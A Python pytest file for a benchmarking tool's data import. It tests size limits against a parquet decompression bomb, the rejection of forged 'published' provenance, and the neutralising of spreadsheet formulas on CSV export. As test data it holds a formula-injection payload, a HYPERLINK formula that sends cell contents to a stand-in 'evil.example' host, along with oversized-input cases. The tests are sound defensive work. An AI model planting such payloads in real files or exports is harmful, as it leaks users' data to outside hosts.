"""Bounded work for any input, trusted provenance and formula-free CSV (issue 14): each test failed before its fix."""

from __future__ import annotations

import io
import json
import time
import tracemalloc

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from hwplan.app.cli import main
from hwplan.core.errors import UnknownIdError, closest
from hwplan.core.ingest import import_into
from hwplan.core.store import Store
from hwplan.core.tableio import FORMULA_START, ImportLimits, load_file, neutralise_formulas, write_table
from tests.conftest import make_rows

KNOWN = {"known_workloads": {"resnet50"}, "known_devices": {"nvidia-h100-sxm", "nvidia-t4"}}


def parquet_bytes(table: pa.Table, **kw) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf, **kw)
    return buf.getvalue()


def with_column(df: pd.DataFrame, name: str, values) -> pa.Table:
    t = pa.Table.from_pandas(df.drop(columns=[name]), preserve_index=False)
    return t.append_column(name, pa.array(values))


# ---- 1. bounded work -----------------------------------------------------------------------------------------

def test_parquet_bomb_refused_from_its_metadata_in_bounded_memory():
    """150,000 rows of a 4,000-character cell: about 1.3 MB on disk, 645 MB decompressed."""
    df = make_rows(1).iloc[[0] * 150_000].reset_index(drop=True)
    df["notes"] = "a" * 4000
    data = parquet_bytes(pa.Table.from_pandas(df, preserve_index=False), compression="zstd", use_dictionary=False)
    del df
    assert len(data) < 2_000_000
    tracemalloc.start()
    t = time.perf_counter()
    lt = load_file("bomb.parquet", data=data, **KNOWN)
    elapsed = time.perf_counter() - t
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [str(p) for p in lt.problems] == [
        "bomb.parquet:file: decompresses to 645.0 MB (from " + f"{len(data) / 1e3:.1f}" + " KB), over the 52 MB limit "
        "(expected a smaller file, or raise the limit with --max-decompressed-mb)"]
    assert peak < 200e6 and elapsed < 5


@pytest.mark.parametrize("fmt", ["csv", "json", "jsonl", "parquet"])
def test_row_column_and_cell_limits_hold_for_every_format(fmt):
    def encode(df: pd.DataFrame) -> bytes:
        if fmt == "csv":
            return df.to_csv(index=False).encode()
        if fmt == "json":
            return df.to_json(orient="records").encode()
        if fmt == "jsonl":
            return df.to_json(orient="records", lines=True).encode()
        return parquet_bytes(pa.Table.from_pandas(df, preserve_index=False))

    name = f"in.{fmt}"
    rows = load_file(name, data=encode(make_rows(6)), limits=ImportLimits(max_rows=5), **KNOWN)
    assert [str(p) for p in rows.problems] == [
        f"{name}:file: has more than 5 rows (expected fewer rows, or raise the limit with --max-rows)"]
    wide = make_rows(1)
    for i in range(30):
        wide[f"extra_{i}"] = "x"
    cols = load_file(name, data=encode(wide), limits=ImportLimits(max_columns=40), **KNOWN)
    assert [str(p) for p in cols.problems] == [f"{name}:file: has 57 columns, over the 40 limit (expected the "
                                               "Measurement columns only, or raise the limit with --max-columns)"]
    long = make_rows(2)
    long.loc[1, "host"] = "h" * 5000
    cell = load_file(name, data=encode(long), **KNOWN)
    line = 3 if fmt == "csv" else 2
    assert [str(p) for p in cell.problems] == [f"{name}:{line}: host: is 5,000 characters long, over the 4,096 limit "
                                               "(expected a shorter value, or raise the limit with --max-cell-chars)"]


def test_limits_from_the_environment_and_the_cli(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HWPLAN_MAX_ROWS", "2")
    assert ImportLimits.from_env().max_rows == 2
    assert ImportLimits.from_env(max_rows=7).max_rows == 7
    make_rows(3).to_csv(tmp_path / "a.csv", index=False)
    db = tmp_path / "s.db"
    assert main(["import", str(tmp_path / "a.csv"), "--db", str(db)]) == 2
    assert "a.csv:file: has more than 2 rows" in capsys.readouterr().err
    assert main(["import", str(tmp_path / "a.csv"), "--db", str(db), "--max-rows", "3"]) == 0
    assert Store.open(str(db)).count() == 3


def test_parquet_cells_of_any_type_are_problems_not_exceptions():
    df = make_rows(2)
    cases = {
        "none": (with_column(df, "host", [None, "x"]), []),
        "timestamp": (with_column(df, "measured_at", pa.array([pd.Timestamp("2026-01-01T00:00:00Z")] * 2)), []),
        "list": (with_column(df, "host", [[1, 2], [3]]),
                 ["x.parquet:file: host: holds list<item: int64> values (expected text, numbers or empty cells)"]),
        "bad utf-8": (with_column(df, "host", [b"ok", b"\xff\xfe"]),
                      ["x.parquet:2: host: is not UTF-8 text (expected text in UTF-8)"]),
        "inf count": (with_column(df, "device_count", [1.0, float("inf")]),
                      ["x.parquet:2: device_count: 'inf' is not a finite number (expected a whole number >= 1)"]),
        "none count": (with_column(df, "device_count", pa.array([None, 2])),
                       ["x.parquet:1: device_count: is empty (expected a whole number >= 1)"]),
    }
    for label, (table, expected) in cases.items():
        lt = load_file("x.parquet", data=parquet_bytes(table), **KNOWN)
        assert [str(p).replace("element", "item") for p in lt.problems] == expected, label
    ts = load_file("x.parquet", data=parquet_bytes(cases["timestamp"][0]), **KNOWN)
    assert ts.rows["measured_at"].iloc[0] == "2026-01-01T00:00:00.000000Z"


def test_a_400_digit_or_infinite_device_count_is_a_problem():
    recs = json.loads(make_rows(2).to_json(orient="records"))
    recs[0]["device_count"] = int("9" * 400)
    recs[1]["device_count"] = float("inf")  # written as Infinity, which Python's JSON reads
    lt = load_file("x.json", data=json.dumps(recs).encode(), **KNOWN)
    assert [p.row for p in lt.problems] == [1, 2]
    assert all(p.column == "device_count" and "is not a finite number" in p.message for p in lt.problems)
    assert all(len(str(p)) < 200 for p in lt.problems)


def test_a_one_megabyte_device_id_is_refused_without_a_search():
    df = make_rows(1)
    df.loc[0, "device"] = "nvidia-" + "x" * 1_000_000
    load_file("warm.csv", data=make_rows(1).to_csv(index=False).encode(), **KNOWN)  # pandera's import, once
    t = time.perf_counter()
    lt = load_file("long.csv", data=df.to_csv(index=False).encode(), limits=ImportLimits(max_cell_chars=2_000_000), **KNOWN)
    assert time.perf_counter() - t < 5  # 36 s before
    (p,) = lt.problems
    assert p.column == "device" and p.message.startswith("is 1,000,007 characters long ('nvidia-xxx")
    assert "a catalog id" in p.expected and len(str(p)) < 300
    assert closest("x" * 5000, ["nvidia-h100-sxm"]) == []
    err = UnknownIdError("device", "y" * 10_000, ["nvidia-t4"])
    assert len(str(err)) < 200 and "10,000 characters long" in str(err)


# ---- 2. trusted provenance -----------------------------------------------------------------------------------

def forged_published(n: int = 82) -> pd.DataFrame:
    return make_rows(1, run_id="forged", source="published", source_ref="https://example.com/forged",
                     device="nvidia-t4", device_name="NVIDIA T4", precision="int8", throughput="999999").iloc[[0] * n] \
        .assign(batch_size=[str(i + 1) for i in range(n)])


def published_count(store: Store) -> int:
    return len(store.measurements(source="published", workload="resnet50", device="nvidia-t4", precision="int8"))


def test_an_upload_labelled_published_is_stored_as_upload(tmp_path):
    from hwplan.app.dashboard.upload import upload

    store = Store.open(str(tmp_path / "s.db"))
    before = published_count(store)
    out = upload(store, [("forged.csv", forged_published().to_csv(index=False).encode())])
    assert out.ok and out.inserted == 82
    assert published_count(store) == before
    assert set(store.measurements(run_id="forged")["source"]) == {"upload"}


def test_plain_cli_import_stores_upload_and_as_published_needs_a_citation(tmp_path, capsys):
    db = str(tmp_path / "s.db")
    path = tmp_path / "forged.csv"
    forged_published(3).assign(source_ref="").to_csv(path, index=False)
    assert main(["import", str(path), "--db", db]) == 0
    store = Store.open(db)
    assert set(store.measurements()["source"]) == {"upload"} and published_count(store) == 0
    capsys.readouterr()
    assert main(["import", str(path), "--db", db, "--as-published"]) == 2
    assert "--citation" in capsys.readouterr().err
    assert main(["import", str(path), "--db", db, "--citation", "x"]) == 2
    store.delete_run("forged")
    assert main(["import", str(path), "--db", db, "--as-published", "--citation", "https://mlcommons.org/r/1"]) == 0
    rows = Store.open(db).measurements(run_id="forged")
    assert set(rows["source"]) == {"published"} and set(rows["source_ref"]) == {"https://mlcommons.org/r/1"}


def test_forged_published_rows_do_not_enter_the_cost_models_published_basis(tmp_path, measurements):
    """The cost model's basis text counts rows by their stored `source`: after a forged upload the T4 int8
    resnet50 rows it rests on are still only the published ones."""
    store = Store.open(str(tmp_path / "s.db"))
    store.add_measurements(measurements, validated=False)
    before = published_count(store)
    import_into(store, [("forged.csv", forged_published().to_csv(index=False).encode(), None)])
    rows = store.measurements(workload="resnet50", device="nvidia-t4", precision="int8")
    counts = rows["source"].value_counts().to_dict()
    assert counts.get("published", 0) == before and counts["upload"] == 82


# ---- 3. safe outputs -----------------------------------------------------------------------------------------

def test_neutralise_formulas_touches_text_only():
    df = pd.DataFrame({"t": ["=1+1", "+x", "-y", "@z", "\tq", "\rr", "ok", None], "n": [-1.5, 2, 3, 4, 5, 6, 7, 8]})
    out = neutralise_formulas(df)
    assert out["t"].tolist()[:7] == ["'=1+1", "'+x", "'-y", "'@z", "'\tq", "'\rr", "ok"]
    assert out["n"].tolist()[0] == -1.5 and out["n"].dtype == df["n"].dtype
    assert df["t"].iloc[0] == "=1+1"  # the input is left alone


def test_export_of_an_uploaded_formula_has_no_formula_cell(tmp_path, capsys):
    db = str(tmp_path / "s.db")
    evil = make_rows(2, device_name='=HYPERLINK("http://evil.example/?"&A1,"x")', host="@SUM(1+1)", notes="-2+3")
    evil.to_csv(tmp_path / "evil.csv", index=False)
    assert main(["import", str(tmp_path / "evil.csv"), "--db", db]) == 0
    capsys.readouterr()
    assert main(["export", "--db", db]) == 0
    text = capsys.readouterr().out
    cells = [c for row in pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).itertuples(index=False)
             for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=HYPERLINK(" in text
    assert write_table(pd.DataFrame({"x": ["=1"]}), "csv", None) == b"x\n'=1\n"
